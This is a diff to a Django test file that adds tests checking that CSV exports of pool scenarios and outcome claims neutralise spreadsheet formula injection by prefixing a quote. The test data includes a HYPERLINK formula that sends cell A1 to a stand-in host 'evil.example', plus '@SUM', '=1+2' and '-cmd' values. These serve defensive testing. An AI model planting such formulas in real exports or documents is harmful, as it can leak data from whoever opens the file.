@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 from decimal import Decimal
 
 import pytest
@@ -8,7 +10,7 @@ from django.urls import reverse
 
 from tide.areas.models import Role
 from tide.coordination.models import SupportEpisode
-from tide.finance.models import DeflatorSeries, OutcomeClaim, OutcomeRate, PoolScenario, PriceRule
+from tide.finance.models import DeflatorSeries, EvidenceKind, OutcomeClaim, OutcomeRate, PoolScenario, PriceRule
 from tide.testing.factories import PersonFactory, ServiceEventFactory, ndt_assessment
 from tide.testing.fixtures import make_user
 
@@ -318,3 +320,34 @@ def test_outcomes_page_reports_people_referred_but_not_worked_with(commissioner_
     body = response.content.decode()
     assert "1 of 1 people referred have no coordinated support" in body
     assert "Not accepted: 1" in body
+
+
+def test_pooled_compare_csv_neutralises_a_formula_in_a_scenario_name(commissioner_client, cohort, area):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    a = PoolScenario.objects.create(area=area, name=formula, method="savings", budget=Decimal(1000))
+    b = PoolScenario.objects.create(area=area, name="@SUM(A1:A9)", method="savings", budget=Decimal(500))
+    exported = commissioner_client.get(reverse("finance:pooled-csv"), {"a": a.pk, "b": b.pk}).content.decode()
+    header = next(row for row in csv.reader(io.StringIO(exported)) if row and row[0] == "bearing_agency")
+    assert header[2] == f"'{formula}: contribution_gbp"
+    assert header[4] == "'@SUM(A1:A9): contribution_gbp"
+    assert not any(cell[:1] in "=+@" for row in csv.reader(io.StringIO(exported)) for cell in row)
+
+
+def test_claims_csv_neutralises_text_cells(commissioner_client, cohort, area):
+    rate = OutcomeRate.objects.create(
+        area=area, code="acc", label="Accommodation", evidence=EvidenceKind.values[0], tariff=Decimal(100)
+    )
+    OutcomeClaim.objects.create(
+        area=area,
+        person=cohort[0],
+        rate=rate,
+        achieved_on=dt.date(2024, 6, 1),
+        weight=Decimal(1),
+        amount=Decimal(100),
+        submitted_by=commissioner_client.user,
+        evidence="=1+2",
+        derivation="-cmd",
+    )
+    exported = commissioner_client.get(reverse("finance:claims-csv")).content.decode()
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert rows[1][-2:] == ["'=1+2", "'-cmd"]
